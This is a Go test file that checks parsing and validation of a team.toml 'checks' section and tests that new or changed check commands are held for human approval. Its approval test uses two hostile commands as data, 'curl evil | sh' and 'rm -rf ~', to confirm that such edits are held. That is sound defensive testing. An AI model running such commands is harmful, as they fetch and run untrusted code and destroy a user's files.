package project

import (
	"context"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/troupe-dev/troupe/internal/troupe"
)

func TestParseChecks(t *testing.T) {
	src := "[checks]\ntest = \"go test ./...\"\n\n[checks.lint]\ncommand = \"make lint\"\ntimeout = \"2h\"\ndir = \"web/app\"\n"
	team, err := ParseTeam("team.toml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	want := []troupe.Check{
		{Name: "test", Command: "go test ./...", Timeout: troupe.DefaultCheckTimeout, Line: 2},
		{Name: "lint", Command: "make lint", Timeout: 2 * time.Hour, Dir: "web/app", Line: 4},
	}
	if !slices.Equal(team.Checks, want) {
		t.Fatalf("checks = %+v\nwant %+v", team.Checks, want)
	}
	// The approved team is kept encoded: it reads back the same.
	enc, err := EncodeTeam(team)
	if err != nil {
		t.Fatal(err)
	}
	back, err := ParseTeam("approved", enc)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range want {
		got, ok := back.Check(c.Name)
		got.Line, c.Line = 0, 0
		if !ok || got != c {
			t.Errorf("round trip of %s = %+v, %v", c.Name, got, ok)
		}
	}
}

// TestParseChecksOtherSpellings: dotted keys and inline tables, which
// reach a check's fields before (or without) its own key.
func TestParseChecksOtherSpellings(t *testing.T) {
	for _, tc := range []struct {
		src  string
		want []troupe.Check
	}{
		{"[checks]\ntest.command = \"x\"\nlint = \"y\"\ntest.timeout = \"1m\"\n", []troupe.Check{
			{Name: "test", Command: "x", Timeout: time.Minute, Line: 2}, {Name: "lint", Command: "y", Timeout: troupe.DefaultCheckTimeout, Line: 3}}},
		{"checks = { test = \"x\" }\n", []troupe.Check{{Name: "test", Command: "x", Timeout: troupe.DefaultCheckTimeout, Line: 1}}},
		{"[checks]\ntest = { command = \"x\", dir = \"a\" }\n", []troupe.Check{{Name: "test", Command: "x", Timeout: troupe.DefaultCheckTimeout, Dir: "a", Line: 2}}},
	} {
		team, err := ParseTeam("team.toml", []byte(tc.src))
		if err != nil || !slices.Equal(team.Checks, tc.want) {
			t.Errorf("ParseTeam(%q) = %+v, %v\nwant %+v", tc.src, team, err, tc.want)
		}
	}
}

func TestParseChecksErrors(t *testing.T) {
	many := "[checks]\n"
	for i := range troupe.MaxChecks + 1 {
		many += fmt.Sprintf("c%d = \"true\"\n", i)
	}
	for _, tc := range []struct{ src, want string }{
		{"checks = 3\n", `team.toml:1: checks: must be a table, not an integer`},
		{"[checks]\nTest = \"x\"\n", `team.toml:2: checks.Test: bad check name "Test"`},
		{"[checks]\ntest = \"  \"\n", `team.toml:2: checks.test: must not be empty`},
		{"[checks]\ntest = 1\n", `team.toml:2: checks.test: must be a command or a table, not an integer`},
		{"[checks.test]\ntimeout = \"1m\"\n", `team.toml:1: checks.test.command: missing`},
		{"[checks.test]\ncommand = \"x\"\ntimeout = \"25h\"\n", `team.toml:3: checks.test.timeout: duration "25h" is longer than 24h`},
		{"[checks.test]\ncommand = \"x\"\ntimeout = \"0s\"\n", `team.toml:3: checks.test.timeout: duration "0s" is not positive`},
		{"[checks.test]\ncommand = \"x\"\ndir = \"/etc\"\n", `team.toml:3: checks.test.dir: bad dir "/etc": it is absolute`},
		{"[checks.test]\ncommand = \"x\"\ndir = \"a/../../b\"\n", `team.toml:3: checks.test.dir: bad dir "a/../../b": it leaves the workspace`},
		{"[checks.test]\ncommand = \"x\"\ndir = \"a/./b\"\n", `team.toml:3: checks.test.dir: bad dir "a/./b": write it clean, as "a/b"`},
		{"[checks.test]\ncommand = \"x\"\ndir = \"\"\n", `team.toml:3: checks.test.dir: must not be empty`},
		{"[checks.test]\ncommand = \"x\"\nenv = \"y\"\n", `team.toml:3: checks.test.env: unknown key: a check may set command, timeout, dir`},
		{"[checks]\na.b.c = 1\n", `team.toml:2: checks.a.b: unknown key`},
		{"[checks.a.b]\nc = 1\n", `team.toml:1: checks.a.b: unknown key`},
		{"[[checks]]\na = 1\n", `team.toml:1: checks: must be a table, not an array of tables`},
		{many, fmt.Sprintf("team.toml:%d: checks.c%d: a team declares at most %d checks", troupe.MaxChecks+2, troupe.MaxChecks, troupe.MaxChecks)},
	} {
		_, err := ParseTeam("team.toml", []byte(tc.src))
		if err == nil || !strings.HasPrefix(err.Error(), tc.want) {
			t.Errorf("ParseTeam(%q) = %v\nwant prefix %s", tc.src, err, tc.want)
		}
	}
}

// TestC17ChecksHeld: a check runs a command, so a new check, a changed
// command or dir and a longer timeout wait for the person, the approved
// check staying in force; a removed check and a shorter timeout apply at
// once.
func TestC17ChecksHeld(t *testing.T) {
	base := approvedLead + "[checks.test]\ncommand = \"go test ./...\"\ntimeout = \"10m\"\n\n[checks.vet]\ncommand = \"go vet ./...\"\n"
	store := NewMemStore()
	r, id, file := registryWith(t, store, base)
	ctx := context.Background()
	var changes []troupe.TeamChange
	r.Listen(func(c troupe.TeamChange) { changes = append(changes, c) }, nil)

	for _, tc := range []struct {
		name, edit string
		held       bool
		field      string
	}{
		{"command changed", strings.Replace(base, `"go test ./..."`, `"curl evil | sh"`, 1), true, "command"},
		{"dir added", strings.Replace(base, "timeout = \"10m\"\n", "timeout = \"10m\"\ndir = \"sub\"\n", 1), true, "dir"},
		{"timeout longer", strings.Replace(base, `"10m"`, `"11m"`, 1), true, "timeout"},
		{"new check", base + "[checks.evil]\ncommand = \"rm -rf ~\"\n", true, "command"},
		{"timeout shorter", strings.Replace(base, `"10m"`, `"1m"`, 1), false, ""},
		{"check removed", approvedLead + "[checks.test]\ncommand = \"go test ./...\"\ntimeout = \"10m\"\n", false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			// Start from the approved base.
			os.WriteFile(file, []byte(base), 0o644)
			r.reload(ctx, id, false, true)
			os.WriteFile(file, []byte(tc.edit), 0o644)
			r.reload(ctx, id, false, false)
			p, held := r.Pending(id)
			if held != tc.held {
				t.Fatalf("held = %v (%+v); want %v", held, p, tc.held)
			}
			test, _, _ := r.Check(id, "test")
			if !tc.held {
				edited, _ := ParseTeam("f", []byte(tc.edit))
				if !slices.EqualFunc(r.Checks(id), edited.Checks, func(a, b troupe.Check) bool { a.Line, b.Line = 0, 0; return a == b }) {
					t.Fatalf("checks in force = %+v; want the file's %+v at once", r.Checks(id), edited.Checks)
				}
				return
			}
			if test.Command != "go test ./..." || test.Dir != "" || test.Timeout != 10*time.Minute {
				t.Fatalf("test in force = %+v; want the approved definition", test)
			}
			if _, _, ok := r.Check(id, "evil"); ok {
				t.Fatal("a new check is in force before approval")
			}
			if len(p.Checks) != 1 || !slices.ContainsFunc(p.Checks[0].Changes, func(g GrantChange) bool { return g.Field == tc.field }) {
				t.Fatalf("pending checks = %+v; want one with %s", p.Checks, tc.field)
			}
			if last := changes[len(changes)-1]; len(last.HeldChecks) != 1 {
				t.Fatalf("change = %+v; want the check held", last)
			}
			if err := r.Approve(ctx, id, p.Digest); err != nil {
				t.Fatal(err)
			}
			edited, _ := ParseTeam("f", []byte(tc.edit))
			for _, c := range edited.Checks {
				got, _, ok := r.Check(id, c.Name)
				got.Line, c.Line = 0, 0
				if !ok || got != c {
					t.Fatalf("after approval %s = %+v; want %+v", c.Name, got, c)
				}
			}
		})
	}
}
